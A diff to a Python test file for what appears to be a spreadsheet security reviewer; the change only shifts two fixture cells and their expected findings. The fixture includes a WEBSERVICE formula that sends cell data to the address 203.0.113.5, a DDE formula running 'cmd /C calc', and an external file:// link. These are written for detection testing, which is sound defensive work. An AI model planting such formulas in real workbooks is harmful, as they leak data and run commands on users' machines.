@@ -141,9 +141,9 @@ def with_formulas() -> bytes:
     patient = Patient(macros.make(workbook()))
     patient.put(ANALYSIS, "B10", RUNS, formula=RUNS[1:])
     patient.put(TABLE, "E13", "1020", formula='WEBSERVICE("http://203.0.113.5/?"&amp;D13)')
-    patient.put(TABLE, "H13", RUNS, formula='HYPERLINK("http://203.0.113.5","x")')
+    patient.put(TABLE, "J13", RUNS, formula='HYPERLINK("http://203.0.113.5","x")')
     patient.put(TABLE, "C13", RUNS)
-    patient.put(TABLE, "G13", 20.0, formula=RUNS[1:])
+    patient.put(TABLE, "I13", 20.0, formula=RUNS[1:])
     patient.put(FUNDS, "H8", None, formula='DDE("cmd","/C calc","x")', error="#REF!")
     patient.link("xl/worksheets/_rels/sheet4.xml.rels", "rIdUnc", "hyperlink", "file://203.0.113.5/x", outside=True)
     link = f'<hyperlinks><hyperlink ref="E13" xmlns:r="{LINKS}" r:id="rIdUnc"/></hyperlinks>'
@@ -195,10 +195,10 @@ def test_what_wants_to_run_is_found(written: tuple[Path, ReviewResult]) -> None:
         ("FILE16", "", ""),
         ("FILL17", ANALYSIS, "B10"),
         ("FILL17", TABLE, "E13"),
-        ("FILL17", TABLE, "H13"),
+        ("FILL17", TABLE, "J13"),
         ("FILL18", FUNDS, "H8"),
         ("TAMPER02", TABLE, "C13"),
-        ("TAMPER03", TABLE, "G13"),
+        ("TAMPER03", TABLE, "I13"),
     }
     begins = [item.code for item in written[1].findings if item.file == "=cmd.xlsx" and item.code == "FILL12"]
     assert len(begins) == 10 + 4 + 1  # an approved goal is not typed
